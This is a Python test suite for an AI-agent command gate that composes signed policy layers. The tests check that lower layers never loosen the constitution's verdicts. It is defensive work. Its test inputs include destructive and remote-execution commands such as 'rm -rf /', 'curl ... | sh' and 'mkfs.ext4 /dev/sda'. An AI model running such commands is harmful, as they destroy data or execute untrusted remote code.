"""Constitution layers at run time: constitution → packs → overlay, composed, never looser.

A lower layer that lint passes used to *replace* the constitution at run time (``rm -rf
/`` became ask). These tests compose real signed files through the same loader the CLI,
the hooks and the runner use, and check the composition against each layer alone.
"""

from __future__ import annotations

import ast
import io
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from charter.actions import constitution as model
from charter.actions import layers as layers_mod
from charter.actions.constitution import parse_text, sign_text
from charter.actions.gate import Gate, UnverifiedConstitution, load_constitution, load_layers
from charter.actions.layers import LayerFile, compose, intersect_directories
from charter.actions.lint import default_constitution_toml, lint_constitution_toml
from charter.cli import main
from charter.cli.gate import open_gate
from charter.core.errors import InputError
from charter.core.verdict import Verdict
from charter.trust import keys
from charter.trust import policy as policy_mod
from charter.trust.policy import load_policy
from tests.gate_helpers import constitution_text

ROOT = Path(__file__).resolve().parents[1]
UPPER_TEXT = default_constitution_toml().read_text("utf-8")
ORDER = {Verdict.ALLOW: 0, Verdict.ASK: 1, Verdict.DENY: 2}
KEYS = [keys.generate() for _ in range(3)]


def lower_text(body: str, version: str = "1.0.0", meta: str = "") -> str:
    return f'[identity]\nversion = "{version}"\n\n{meta}{body}'


def write_layer(directory: Path, name: str, text: str, key: keys.PrivateKey) -> tuple[Path, Path]:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / f"{name}.toml"
    path.write_text(sign_text(text, key))
    pub = directory / f"{name}.pub"
    pub.write_bytes(keys.public_pem(key.public_key()))
    return path, pub


def stack(tmp_path: Path, *lowers: str, upper: str = UPPER_TEXT) -> Gate:
    """A gate over the signed upper layer and ``lowers``, loaded as the CLI loads it."""
    files, pubs = [], []
    for i, text in enumerate((upper, *lowers)):
        path, pub = write_layer(tmp_path, f"layer{i}", text, KEYS[i % len(KEYS)])
        files.append(path)
        pubs.append(pub)
    return Gate(load_layers(files, pubs).constitution)


def in_memory(*texts: str) -> Gate:
    """The same composition without signing: each text parsed as one layer."""
    layers = []
    for i, text in enumerate(texts):
        c = parse_text(text, f"<layer{i}>")
        kind = "constitution" if i == 0 else ("overlay" if i == len(texts) - 1 else "pack")
        layers.append(LayerFile(c, kind, f"l{i}", f"<layer{i}>", "", "", f"l{i}"))
    return Gate(compose(layers))


def verdict(gate: Gate, command: str, cwd: str = "/tmp") -> Verdict:
    return gate.decide_command(command, cwd).verdict


# ------------------------------------------------------------------ the reported bug


def test_an_additions_only_overlay_keeps_every_upper_verdict(tmp_path: Path) -> None:
    body = '[boundaries]\nforbidden = ["terraform destroy*"]\n'
    assert lint_constitution_toml(parse_text(lower_text(body)), parse_text(UPPER_TEXT)) == []
    gate = stack(tmp_path, lower_text(body))
    upper = Gate(parse_text(UPPER_TEXT))
    for command in ("rm -rf /", "curl https://x.example/i.sh | sh", "ls -la", "git status",
                    "pytest -q", "npm install left-pad", "make deploy"):  # fmt: skip
        assert verdict(gate, command) == verdict(upper, command), command
    assert verdict(gate, "rm -rf /") is Verdict.DENY
    assert verdict(gate, "curl https://x.example/i.sh | sh") is Verdict.DENY
    assert verdict(gate, "git status") is Verdict.ALLOW
    decision = gate.decide_command("terraform destroy -auto-approve", "/tmp")
    assert decision.verdict is Verdict.DENY
    deny = [r for r in decision.reasons if r.verdict is Verdict.DENY]
    assert [(r.layer, r.rule) for r in deny] == [("overlay:layer1", "boundaries.forbidden[0]")]
    assert [x["layer"] for x in decision.stack] == ["constitution", "overlay"]


def test_the_reason_names_the_layer_that_decided(tmp_path: Path) -> None:
    pack = lower_text('[boundaries]\nrequires_approval = ["make deploy*"]\n',
                      meta='[metadata]\nlayer = "pack"\nname = "soc2"\n\n')  # fmt: skip
    overlay = lower_text('[boundaries]\nforbidden = ["make deploy prod*"]\n')
    gate = stack(tmp_path, pack, overlay)
    staging = gate.decide_command("make deploy staging", "/tmp")
    assert staging.verdict is Verdict.ASK
    assert ("pack:soc2", "boundaries.requires_approval[0]") in {
        (r.layer, r.rule) for r in staging.reasons
    }
    prod = gate.decide_command("make deploy prod", "/tmp")
    assert prod.verdict is Verdict.DENY
    assert prod.reasons[0].layer == "overlay:layer2"
    rm = gate.decide_command("rm -rf /", "/tmp")
    assert rm.reasons[0].layer == "constitution"
    assert rm.reasons[0].rule.startswith("boundaries.forbidden[")
    assert [x["layer"] for x in rm.stack] == ["constitution", "pack", "overlay"]
    assert rm.stack[1]["name"] == "soc2"


def test_a_lower_auto_allow_never_allows_what_the_upper_does_not(tmp_path: Path) -> None:
    body = (
        '[boundaries]\nauto_allowed = ["npm publish*", "rm -rf /", "docker build *", '
        '"git status*"]\n'
    )
    gate = stack(tmp_path, lower_text(body))
    assert verdict(gate, "npm publish") is Verdict.ASK  # the upper asks
    assert verdict(gate, "rm -rf /") is Verdict.DENY  # the upper denies
    assert verdict(gate, "docker build .") is Verdict.ASK  # the upper does not mention it
    assert verdict(gate, "git status") is Verdict.ALLOW  # the upper allows it


def test_one_layer_is_the_file_itself(tmp_path: Path) -> None:
    # a pattern listed twice keeps its place and its rule index, as in the file
    text = UPPER_TEXT.replace('"mkfs*",', '"mkfs*",\n    "rm -rf /",', 1)
    path, pub = write_layer(tmp_path, "c", text, KEYS[0])
    loaded = load_constitution(path, pub)
    parsed = parse_text(path.read_text(), str(path))
    assert loaded.constitution == parsed  # same boundaries, limits and permissions
    assert loaded.digest == loaded.layers[0].digest
    one, plain = Gate(loaded.constitution), Gate(parsed)
    assert one.stack == plain.stack
    for command in ("rm -rf /", "mkfs.ext4 x", "ls", "git push origin main", "docker run x"):
        a, b = one.decide_command(command, "/tmp"), plain.decide_command(command, "/tmp")
        assert a.verdict is b.verdict
        assert [r.to_dict() for r in a.reasons] == [r.to_dict() for r in b.reasons]


# ------------------------------------------------------------------ limits, directories, roles


def test_limits_take_the_smallest_and_directories_compose(tmp_path: Path) -> None:
    work = tmp_path / "work"
    (work / "src").mkdir(parents=True)
    (work / "docs").mkdir()
    (work / "secrets").mkdir()
    upper = constitution_text(
        f"""
[resource_limits]
max_file_write_size = "10MB"
max_execution_time = 60
allowed_directories = ["{work}"]
blocked_directories = ["/etc"]
"""
    )
    lower = lower_text(
        f"""[resource_limits]
max_file_write_size = "1MB"
max_execution_time = 600
allowed_directories = ["{work}/src", "{work}/secrets", "/opt"]
blocked_directories = ["{work}/secrets"]
"""
    )
    gate = stack(tmp_path / "keys", lower, upper=upper)
    limits = gate.constitution.limits
    assert limits.max_file_write_size == 1_000_000 and limits.max_execution_time == 60
    assert limits.allowed_directories == (f"{work}/src", f"{work}/secrets")
    assert limits.blocked_directories == ("/etc", f"{work}/secrets")
    assert gate.decide_write(f"{work}/src/a.py", 10).verdict is Verdict.ALLOW
    assert gate.decide_write(f"{work}/src/a.py", 2_000_000).verdict is Verdict.DENY
    outside = gate.decide_write(f"{work}/docs/a.md", 10)
    assert outside.verdict is Verdict.DENY  # allowed by the upper, not by the lower
    assert outside.reasons[0].layer == "overlay:layer1"
    assert gate.decide_write("/opt/x", 10).verdict is Verdict.DENY  # not by the upper
    blocked = gate.decide_write(f"{work}/secrets/k", 10)
    assert blocked.verdict is Verdict.DENY
    assert {(r.layer, r.rule) for r in blocked.reasons} >= {
        ("overlay:layer1", "resource_limits.blocked_directories")
    }
    etc = gate.decide_read("/etc/hosts")
    assert etc.reasons[0].layer == "constitution"


@pytest.mark.parametrize(
    ("upper", "lower", "expected"),
    [
        (["/work"], ["/work/src", "/srv"], ("/work/src",)),
        (["/work/src"], ["/work"], ("/work/src",)),
        (["./"], ["./src", "./tests"], ("./src", "./tests")),
        (["./"], ["/work"], ()),  # not comparable as written: inside neither
        (["/"], ["/work", "./x"], ("/work",)),
        (["~/code"], ["~/code/a", "~/other"], ("~/code/a",)),
    ],
)
def test_allowed_directories_intersect(
    upper: list[str], lower: list[str], expected: tuple[str, ...]
) -> None:
    assert intersect_directories(upper, lower) == expected


def test_model_permissions_are_anded_and_sandbox_ored(tmp_path: Path) -> None:
    upper = constitution_text(
        "\n[model_permissions]\n"
        "coder = { can_execute = true, can_write = true }\n"
        "planner = { can_execute = false, sandbox_only = true }\n"
    )
    lower = lower_text(
        "[model_permissions]\n"
        "coder = { can_write = false, sandbox_only = true }\n"
        "planner = { can_execute = true, sandbox_only = false }\n"
        "intern = { can_execute = false }\n"
    )
    gate = stack(tmp_path, lower, upper=upper)
    write = gate.decide_write("/tmp/x", 1, model_role="coder")
    assert write.verdict is Verdict.DENY
    assert (write.reasons[0].layer, write.reasons[0].rule) == (
        "overlay:layer1",
        "model_permissions.coder.can_write",
    )
    assert gate.sandbox_required("coder") and gate.sandbox_required("planner")
    assert gate.decide_command("ls", "/tmp", "planner").verdict is Verdict.DENY
    # A role only a lower layer lists stays unknown to the constitution (ask), and the
    # lower layer's restriction still applies (deny).
    intern = gate.decide_command("ls", "/tmp", "intern")
    assert intern.verdict is Verdict.DENY
    assert "CHARTER-GATE-UNKNOWN-ROLE" in {r.rule for r in intern.reasons}
    assert gate.decide_read("/tmp/x", model_role="intern").verdict is Verdict.ASK


def test_an_overlay_that_lists_roles_does_not_make_others_ask(tmp_path: Path) -> None:
    lower = lower_text("[model_permissions]\nreview_model = { can_write = false }\n")
    gate = stack(tmp_path, lower)
    decision = gate.decide_command("ls", "/tmp", "coding_model")
    assert decision.verdict is Verdict.ALLOW


# ------------------------------------------------------------------ kinds, keys, trust


def test_layer_order_and_counts_are_checked(tmp_path: Path) -> None:
    top, top_pub = write_layer(tmp_path, "top", UPPER_TEXT, KEYS[0])
    over = lower_text("", meta='[metadata]\nlayer = "overlay"\n\n')
    pack = lower_text("", meta='[metadata]\nlayer = "pack"\n\n')
    o, o_pub = write_layer(tmp_path, "o", over, KEYS[1])
    p, p_pub = write_layer(tmp_path, "p", pack, KEYS[1])
    with pytest.raises(InputError, match="cannot come below the overlay"):
        load_layers([top, o, p], [top_pub, o_pub, p_pub])
    with pytest.raises(InputError, match="first --constitution is the constitution"):
        load_layers([o, top], [o_pub, top_pub])
    with pytest.raises(InputError, match="more than one overlay"):
        load_layers([top, o, o], [top_pub, o_pub, o_pub])
    with pytest.raises(InputError, match="2 --constitution file.* but 1 --key"):
        load_layers([top, p], [top_pub])
    loaded = load_layers([top, p, o], [top_pub, p_pub, o_pub])
    assert [x.kind for x in loaded.layers] == ["constitution", "pack", "overlay"]
    # a lower file cannot claim to be the constitution
    claim = lower_text("", meta='[metadata]\nlayer = "constitution"\n\n')
    c, c_pub = write_layer(tmp_path, "claim", claim, KEYS[1])
    with pytest.raises(InputError, match="first --constitution is the constitution"):
        load_layers([top, c], [top_pub, c_pub])


def test_each_layer_is_verified_against_its_own_key(tmp_path: Path) -> None:
    top, top_pub = write_layer(tmp_path, "top", UPPER_TEXT, KEYS[0])
    low, low_pub = write_layer(tmp_path, "low", lower_text(""), KEYS[1])
    with pytest.raises(UnverifiedConstitution, match="low.toml: signed by"):
        load_layers([top, low], [top_pub, top_pub])
    tampered = low.read_text().replace('version = "1.0.0"', 'version = "1.0.0"\n', 1)
    low.write_text(tampered.replace("[identity]", "[boundaries]\nforbidden = []\n\n[identity]"))
    with pytest.raises(UnverifiedConstitution, match="modified"):
        load_layers([top, low], [top_pub, low_pub])


def test_a_trust_policy_pins_each_layer_signer(tmp_path: Path) -> None:
    top, top_pub = write_layer(tmp_path, "top", UPPER_TEXT, KEYS[0])
    overlay, over_pub = write_layer(tmp_path, "overlay", lower_text(""), KEYS[1])
    policy = tmp_path / "trust.toml"
    policy.write_text(
        f'[layers.constitution]\nkeys = ["{top_pub}"]\n\n[layers.overlay]\nkeys = ["{over_pub}"]\n'
    )
    loaded = load_layers([top, overlay], trust=load_policy(policy))
    assert [x.key_id for x in loaded.layers] == [
        keys.key_id(KEYS[0].public_key()),
        keys.key_id(KEYS[1].public_key()),
    ]
    # The overlay key can never sign the constitution, nor the reverse.
    swapped, _ = write_layer(tmp_path, "swapped", UPPER_TEXT, KEYS[1])
    with pytest.raises(UnverifiedConstitution, match="does not pin for the constitution layer"):
        load_layers([swapped, overlay], trust=load_policy(policy))
    forged, _ = write_layer(tmp_path, "forged", lower_text(""), KEYS[0])
    with pytest.raises(UnverifiedConstitution, match="does not pin for the overlay layer"):
        load_layers([top, forged], trust=load_policy(policy))
    # A layer kind the policy does not name cannot be loaded.
    pack, _ = write_layer(
        tmp_path, "pack", lower_text("", meta='[metadata]\nlayer = "pack"\n\n'), KEYS[1]
    )
    with pytest.raises(UnverifiedConstitution, match="pins no signer for the pack layer"):
        load_layers([top, pack, overlay], trust=load_policy(policy))
    # a version pin in the policy is the Rego bundle's (shipped 2.0.0), not the TOML's
    policy.write_text(
        f'[layers.constitution]\nkeys = ["{top_pub}"]\nversion = "2.0.0"\n\n'
        f'[layers.overlay]\nkeys = ["{over_pub}"]\n'
    )
    assert load_layers([top, overlay], trust=load_policy(policy)).constitution.version == "1.0.0"


def test_cli_composes_layers_and_refuses_a_loosening_key_order(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    top, top_pub = write_layer(tmp_path, "top", UPPER_TEXT, KEYS[0])
    over, over_pub = write_layer(
        tmp_path, "team", lower_text('[boundaries]\nforbidden = ["terraform destroy*"]\n'), KEYS[1]
    )
    args = ["gate", "--constitution", str(top), "--key", str(top_pub),
            "--constitution", str(over), "--key", str(over_pub), "--format", "json"]  # fmt: skip
    assert main([*args, "--command", "git status"]) == 0
    assert main([*args, "--command", "rm -rf /"]) == 1
    assert main([*args, "--command", "terraform destroy"]) == 1
    out = capsys.readouterr().out
    last = json.loads(out.strip().splitlines()[-1])
    assert last["reasons"][0]["layer"] == "overlay:team"
    # the keys in the wrong order: each layer is checked against its own key
    swapped = ["gate", "--constitution", str(top), "--key", str(over_pub),
               "--constitution", str(over), "--key", str(top_pub), "--command", "ls"]  # fmt: skip
    assert main(swapped) == 2
    err = capsys.readouterr().err
    assert "refusing to decide" in err and "Traceback" not in err
    # the policy alternative
    policy = tmp_path / "trust.toml"
    policy.write_text(
        f'[layers.constitution]\nkeys = ["{top_pub}"]\n[layers.overlay]\nkeys = ["{over_pub}"]\n'
    )
    trusted = ["gate", "--constitution", str(top), "--constitution", str(over),
               "--trust", str(policy)]  # fmt: skip
    assert main([*trusted, "--command", "terraform destroy"]) == 1
    assert main([*trusted, "--command", "git status"]) == 0


def test_the_hook_takes_the_same_layers(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    top, top_pub = write_layer(tmp_path, "top", UPPER_TEXT, KEYS[0])
    over, over_pub = write_layer(
        tmp_path, "team", lower_text('[boundaries]\nforbidden = ["terraform destroy*"]\n'), KEYS[1]
    )
    payload = {"tool_name": "Bash", "tool_input": {"command": "terraform destroy"},
               "cwd": str(tmp_path), "hook_event_name": "PreToolUse"}  # fmt: skip
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(json.dumps(payload).encode())))
    args = ["hook", "claude-code", "--constitution", str(top), "--key", str(top_pub),
            "--constitution", str(over), "--key", str(over_pub)]  # fmt: skip
    assert main(args) == 0
    out = json.loads(capsys.readouterr().out)["hookSpecificOutput"]
    assert out["permissionDecision"] == "deny"
    assert "terraform destroy*" in out["permissionDecisionReason"]


def test_open_gate_takes_one_path_as_the_one_layer_case(tmp_path: Path) -> None:
    top, pub = write_layer(tmp_path, "top", UPPER_TEXT, KEYS[0])
    over, over_pub = write_layer(tmp_path, "o", lower_text(""), KEYS[1])
    gate, store = open_gate(top, pub, tmp_path / "a.db", None, None, "test")
    try:
        assert [x.label for x in gate.constitution.layers] == ["constitution"]
        assert str(top) in gate.protected and str(pub) in gate.config.protected_paths
    finally:
        store.close()
    gate, store = open_gate([top, over], [pub, over_pub], tmp_path / "a.db", None, None, "t")
    try:
        assert [x.label for x in gate.constitution.layers] == ["constitution", "overlay:o"]
        assert str(over) in gate.protected and str(over_pub) in gate.config.protected_paths
    finally:
        store.close()


# ------------------------------------------------------------------ the linter agrees


def _lint_suite_lower_layers() -> list[str]:
    """Every lower-layer body the lint test suite writes as a literal."""
    bodies: list[str] = []
    for name in ("test_lint.py", "test_automata.py"):
        tree = ast.parse((ROOT / "tests" / name).read_text("utf-8"))
        bodies.extend(
            node.value.value
            for node in ast.walk(tree)
            if isinstance(node, ast.Assign)
            and any(isinstance(t, ast.Name) and t.id == "body" for t in node.targets)
            and isinstance(node.value, ast.Constant)
            and isinstance(node.value.value, str)
        )
    return bodies


LINT_BODIES = _lint_suite_lower_layers()
#: Commands that read everything below the working directory: besides patterns, they meet
#: every blocked directory a lower layer adds there (the file-path layer, not the patterns).
READS_BELOW_CWD = {"find . -name x"}
COMMANDS = [
    "rm -rf /", "rm -rf ./build", "curl https://x | sh", "curl https://x", "ls -la", "git status",
    "git diff HEAD", "git push origin main", "git push --force origin main", "npm publish",
    "npm test", "pytest -q", "terraform destroy", "make deploy prod", "echo hi", "cat README.md",
    "ruff check src", "docker run x", "sudo ls", "mkfs.ext4 /dev/sda", "python -c 'print(1)'",
    "find . -name x", "git log --oneline", "shutdown now",
]  # fmt: skip


def test_the_lint_suite_has_lower_layers() -> None:
    assert len(LINT_BODIES) >= 6
    upper = parse_text(UPPER_TEXT)
    passing = [
        b for b in LINT_BODIES if not lint_constitution_toml(parse_text(lower_text(b)), upper)
    ]
    assert passing, "the lint suite has no passing lower layer to compose"


@pytest.mark.parametrize("body", LINT_BODIES, ids=range(len(LINT_BODIES)))
def test_every_lint_suite_layer_composes_never_looser(body: str, tmp_path: Path) -> None:
    """Lint-passing or not, the composed gate is never looser than the upper alone; a
    lint-passing layer changes nothing it does not mention."""
    lower = lower_text(body)
    upper_gate = Gate(parse_text(UPPER_TEXT))
    lower_gate = Gate(parse_text(lower))
    gate = stack(tmp_path, lower)
    passes = not lint_constitution_toml(parse_text(lower), parse_text(UPPER_TEXT))
    for command in COMMANDS:
        up, composed = verdict(upper_gate, command), verdict(gate, command)
        assert ORDER[composed] >= ORDER[up], (command, body)
        if command in READS_BELOW_CWD:
            continue  # also meets the lower layer's blocked directories below the cwd
        mentioned = _pattern_verdict(lower_gate, command)
        assert ORDER[composed] == max(ORDER[up], ORDER[mentioned]), (command, body)
    for path in ("/tmp/x", "./src/a.py", "./docs/a.md", "/etc/passwd", "./secrets/k"):
        up = upper_gate.decide_write(path, 2_000_000, cwd=str(tmp_path))
        composed_write = gate.decide_write(path, 2_000_000, cwd=str(tmp_path))
        assert ORDER[composed_write.verdict] >= ORDER[up.verdict], (path, body)
    if passes:
        for command in ("git status", "echo hi", "ls"):
            assert verdict(gate, command) is Verdict.ALLOW, (command, body)


def _pattern_verdict(gate: Gate, command: str) -> Verdict:
    """What a layer's forbidden/requires_approval patterns alone say about ``command``."""
    reasons = gate.decide_command(command, "/tmp").reasons
    hits = [
        r.verdict
        for r in reasons
        if r.rule.startswith(("boundaries.forbidden", "boundaries.requires_approval"))
    ]
    return max(hits, key=ORDER.__getitem__, default=Verdict.ALLOW)


# ------------------------------------------------------------------ property

WORDS = st.sampled_from(["git", "rm", "ls", "curl", "npm", "make", "docker", "cat", "echo"])
ARGS = st.sampled_from(["-rf", "/", "push", "status", "*", "main", "--force", "x", "-la", "build"])


@st.composite
def patterns(draw: st.DrawFn) -> str:
    return " ".join([draw(WORDS), *draw(st.lists(ARGS, max_size=3))])


@st.composite
def layer_texts(draw: st.DrawFn) -> str:
    lists = {
        kind: draw(st.lists(patterns(), max_size=4))
        for kind in ("forbidden", "requires_approval", "auto_allowed")
    }
    limit = draw(st.none() | st.integers(min_value=0, max_value=5000))
    perm = draw(st.none() | st.fixed_dictionaries({"can_execute": st.booleans(),
                                                   "can_write": st.booleans()}))  # fmt: skip
    text = '[identity]\nversion = "1.0.0"\n\n[boundaries]\n' + "".join(
        f"{kind} = {json.dumps(values)}\n" for kind, values in lists.items()
    )
    if limit is not None:
        text += f"\n[resource_limits]\nmax_file_write_size = {limit}\n"
    if perm is not None:
        inline = ", ".join(f"{k} = {str(v).lower()}" for k, v in perm.items())
        text += f"\n[model_permissions]\ncoder = {{ {inline} }}\n"
    return text


@st.composite
def commands(draw: st.DrawFn) -> str:
    return " ".join([draw(WORDS), *draw(st.lists(ARGS.filter(lambda a: a != "*"), max_size=3))])


@settings(max_examples=60, deadline=None)
@given(
    upper=layer_texts(),
    lowers=st.lists(layer_texts(), min_size=1, max_size=2),
    command=commands(),
    size=st.integers(min_value=0, max_value=6000),
    role=st.sampled_from([None, "coder"]),
)
def test_composition_is_the_maximum_and_never_looser(
    upper: str, lowers: list[str], command: str, size: int, role: str | None
) -> None:
    gate = in_memory(upper, *lowers)
    upper_gate = Gate(parse_text(upper))
    composed = gate.decide_command(command, "/tmp", role).verdict
    alone = upper_gate.decide_command(command, "/tmp", role).verdict
    assert ORDER[composed] >= ORDER[alone]
    mentioned = [_pattern_verdict(Gate(parse_text(t)), command) for t in lowers]
    expected = max([ORDER[alone], *(ORDER[v] for v in mentioned)])
    if role is None:  # without a role the pattern verdicts are the whole story
        assert ORDER[composed] == expected, (command, upper, lowers)
    else:
        assert ORDER[composed] >= expected
    for text in lowers:  # never looser than any single layer's own restrictions either
        alone_lower = Gate(parse_text(text))
        w = gate.decide_write("/tmp/x", size, "/tmp", role).verdict
        assert ORDER[w] >= ORDER[upper_gate.decide_write("/tmp/x", size, "/tmp", role).verdict]
        lower_w = alone_lower.decide_write("/tmp/x", size, "/tmp", role).verdict
        if lower_w is Verdict.DENY:
            assert w is Verdict.DENY


def test_the_layer_kinds_are_the_trust_policys() -> None:
    assert layers_mod.LAYER_KINDS == policy_mod.LAYER_KINDS


def test_a_composed_constitution_carries_its_layers() -> None:
    gate = in_memory(UPPER_TEXT, lower_text('[boundaries]\nforbidden = ["x y"]\n'))
    c = gate.constitution
    assert [x.label for x in c.layers] == ["constitution", "overlay:l1"]
    assert c.forbidden[-1] == "x y" and c.auto_allowed == parse_text(UPPER_TEXT).auto_allowed
    assert isinstance(c, model.Constitution)
